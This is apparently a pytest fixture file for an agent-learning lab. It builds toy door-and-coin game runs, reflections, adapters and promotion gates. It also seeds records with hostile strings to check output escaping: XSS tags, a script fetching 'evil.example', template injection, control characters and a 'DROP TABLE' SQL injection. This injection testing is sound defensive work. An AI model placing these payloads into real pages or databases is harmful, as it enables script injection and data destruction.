"""A lab for the browser: games that are won and lost, what was learned from them, a gate that was not passed."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from agentlab.engines.scripted import ScriptedEngine
from agentlab.experiments.evaluation import Cell, Row, Table
from agentlab.lab import Lab
from agentlab.rounds import RoundConfig, RoundReport
from agentlab.rounds.gating import gate
from agentlab.rounds.learned_calls import LearnedCall, LearnedTool
from agentlab.rounds.report import save
from agentlab.workspace.config import LabConfig
from memory.records import Advice, Episode, Evidence, Recall, Reflection, Step, ToolUse, now
from memory.store import EpisodeFilter, Mending
from trainers import BaseRef, JobConfig, job
from trainers.adapters.record import AdapterRecord
from trainers.adapters.registry import AdapterRegistry
from trainers.data import Example
from trainers.lineage import Lineage

ENV = "toy/doors?colours=2,rooms=2,step_limit=6"
GOOD, ODD = "adapter-good", "adapter-odd"


def reads_notes(transcript: str, command: str) -> float:
    """Wins every game: reads the note, opens the door that it names, takes the coin."""
    last = transcript.rstrip(">").rstrip().splitlines()[-1]
    if command.startswith("open "):
        return 0.0 if f"the {command.removeprefix('open ')} is safe" in last else -9.0
    return {"take coin": 0.0, "read note": -1.0}.get(command, -5.0)


def opens_first(_: str, command: str) -> float:
    """Opens the first door by the alphabet, and wins every other game."""
    return 0.0 if command == "take coin" else -ord(command[5]) / 100 if command.startswith("open ") else -9.0


def opens_last(_: str, command: str) -> float:
    """Opens the last door by the alphabet, and wins the other half."""
    return 0.0 if command == "take coin" else ord(command[5]) / 100 - 5 if command.startswith("open ") else -9.0


def config() -> LabConfig:
    return LabConfig(embedder="hashing", threads=1)


def fill(lab: Lab) -> None:
    """Play, learn, distil (without weights), stand at a gate, compare."""
    lab.run(ENV, seeds=range(6), trials=2, arm="base + memory", name="first")
    won = [row.id for row in lab.database.episodes.find(EpisodeFilter(run="first")) if row.won]
    learned = [id for (id,) in lab.database.connection.execute("SELECT id FROM reflections ORDER BY number LIMIT 5")]
    Mending(lab.database, lab.config.namespace).apply("pin", learned[:1], reason="It is always true.")
    played = lab.database.episodes.get(won[0])
    with_tool = ToolUse(tool="oracle", steps=3, proposed=6, made=1, propensity=0.9)
    lab.database.episodes.put(played.model_copy(update={"tools": [with_tool]}))
    called = LearnedCall(
        episode=played.id, seed=played.seed, step=0, seen=played.steps[0].observation, call="ask about doors",
        answer="The red door is safe.", action=played.actions[0], gain=1.9,
    )  # fmt: skip
    learned_tool = LearnedTool(tool="oracle", env=ENV, calls=2, episodes=1, gain=1.9, examples=[called])
    for number, id in enumerate((GOOD, ODD), 1):
        lineage = Lineage(round=f"round-{number}", episodes=won, reflections=learned)
        record = AdapterRecord(id=id, base="b", fingerprint="f", path=f"adapters/{id}", lineage=lineage)
        lab.adapters.records.put(record)
        settings = RoundConfig(envs=[ENV], seeds=5, gate_seeds=25)
        report = RoundReport(
            id=f"round-{number}",
            number=number,
            config=settings,
            adapter=id,
            incumbent=GOOD if number == 2 else None,
            collected={"random": {"tasks": 5, "won": 3}},
            selected={ENV: 3},
            tools=[learned_tool],
            left_out={"duplicate": 2},
            training={"examples": 3, "steps": 4, "first_loss": 1.5, "last_loss": 0.25},
        )
        gate(lab, report)
        report.promoted = bool(report.gate["promote"])
        report.ended_at = now()
        save(lab, report, "done")
        examples = [
            Example(token_ids=[1, 2, 3], weights=[0.0, 1.0, 1.0], episode=id, task=f"{ENV}:train:0") for id in won
        ]
        base = BaseRef(name="b", fingerprint="f", path="")
        job.create(lab.folder / "jobs" / report.id, JobConfig(base=base), examples, lineage)
        if report.promoted:
            lab.database.settings.put("serving adapter", id)
    lab.evaluate(ENV, split="train", seeds=range(6), arms=["random", "base", "base + memory", "adapter"], name="table")


@pytest.fixture(scope="session")
def build() -> Callable[[Path], Path]:
    """Makes the lab in a folder."""

    def built(folder: Path) -> Path:
        scripts = {GOOD: reads_notes, ODD: opens_last}
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(AdapterRegistry, "folder_of", lambda self, adapter, base=None: Path())
            patch.setattr(Lab, "fingerprint", "f")
            engine = ScriptedEngine(opens_first, preferences_by_adapter=scripts)  # type: ignore[arg-type]
            with Lab.open(folder, create=True, config=config(), engine=engine, progress=False) as lab:
                fill(lab)
        return folder

    return built


SHOWN = """<img src=x onerror=alert(1)><script>fetch('http://evil.example/')</script>"'><svg onload=alert(2)>{{7*7}}"""
HOSTILE = f"{SHOWN}</textarea></title></script>\u202e\u2066\x1b[31m\x00'; DROP TABLE episodes;--"


def poisoned(lab: Lab) -> None:
    """Records of every kind whose every text is hostile, under ids that a test knows."""
    step = Step(
        index=0, observation=HOSTILE + "x" * 1_000_000, state=HOSTILE, admissible=[HOSTILE, "look"], action=HOSTILE,
        result=HOSTILE, next_state=HOSTILE, scores=[-1.0, -2.0], bonus=[0.5, 0.0], thought=HOSTILE, note=HOSTILE,
    )  # fmt: skip
    episode = Episode(
        id="ep-poison", run=HOSTILE, env=HOSTILE, split=HOSTILE, seed=1, arm=HOSTILE, engine=HOSTILE, goal=HOSTILE,
        adapter="adapter-poison", hints=HOSTILE, recalled=["r-poison"], status="errored", error=HOSTILE,
        error_kind="engine", steps=[step, step.model_copy(update={"index": 1})],
        tools=[ToolUse(tool=HOSTILE, made=1, held_out=True, propensity=0.5)],
    )  # fmt: skip
    lab.database.episodes.put(episode)
    reflection = Reflection(
        id="r-poison", kind=HOSTILE, env=HOSTILE, task=HOSTILE, goal=HOSTILE, text=HOSTILE, context=HOSTILE,
        topic=HOSTILE, tags=[HOSTILE], source=HOSTILE, run=HOSTILE, derived_from=[HOSTILE],
        advice=[Advice(state=HOSTILE, action=HOSTILE, value=0.5)], evidence=[Evidence(episode="ep-poison", steps=[0])],
    )  # fmt: skip
    lab.database.reflections.put(reflection)
    lab.database.recalls.put(
        [
            Recall(
                episode="ep-poison", reflection="r-poison", rank=0, query=HOSTILE, score=1, parts={HOSTILE: 0.5}, step=0
            )
        ]
    )
    with lab.database.operations.record(HOSTILE, HOSTILE):
        lab.database.reflections.put(reflection.model_copy(update={"pinned": True, "text": HOSTILE + " Edited."}))
    lineage = Lineage(round="round-3", episodes=["ep-poison"], reflections=["r-poison"], code_version=HOSTILE)
    record = AdapterRecord(id="adapter-poison", base=HOSTILE, fingerprint="f", path=HOSTILE, lineage=lineage)
    lab.adapters.records.put(record)
    report = RoundReport(
        id="round-3", number=3, config=RoundConfig(envs=[ENV]), phase="done", adapter="adapter-poison", promoted=False,
        note=HOSTILE, left_out={HOSTILE: 3}, selected={HOSTILE: 2}, retired={"r-poison": HOSTILE}, ended_at=now(),
        gate={**lab.database.rounds.all()["round-2"]["gate"], "reason": HOSTILE},
        tools=[LearnedTool(tool=HOSTILE, env=HOSTILE, calls=1, episodes=1, gain=2.0, examples=[LearnedCall(
            episode=HOSTILE, seed=1, step=0, seen=HOSTILE, call=HOSTILE, answer=HOSTILE, action=HOSTILE, gain=2.0,
        )])],
    )  # fmt: skip
    save(lab, report)
    cell = Cell(wins=1, n=2, low=0.1, high=0.9, score=0.5)
    rows = [Row(arm=arm, trials=1, cells={HOSTILE: cell, "all": cell}, outcomes={f"{HOSTILE}:test:0": True})
            for arm in (HOSTILE, "base")]  # fmt: skip
    table = Table(envs=[HOSTILE], rows=rows, about={"name": HOSTILE, "model": HOSTILE, "date": HOSTILE})
    lab.database.evaluations.put("poison", table.model_dump(mode="json"))
    lab.progress.say(HOSTILE)


@pytest.fixture(scope="session")
def poison() -> Callable[[Path], str]:
    """Puts hostile records into a lab; gives what of their text a reader is to see."""

    def made(folder: Path) -> str:
        with Lab.open(folder, engine=ScriptedEngine({}), progress=False) as lab:
            poisoned(lab)
        return SHOWN

    return made
